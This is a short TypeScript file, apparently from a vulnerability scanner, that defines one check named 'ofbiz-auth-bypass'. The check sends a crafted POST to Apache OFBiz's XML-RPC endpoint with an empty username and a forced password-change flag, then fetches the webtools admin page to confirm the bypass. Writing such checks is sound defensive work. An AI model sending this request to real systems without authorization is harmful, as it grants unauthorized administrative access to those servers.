import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'ofbiz-auth-bypass',
    post('/webtools/control/xmlrpc;/?USERNAME&PASSWORD=s&requirePasswordChange=Y'),
    get('/webtools/control/main'),
  ),
]
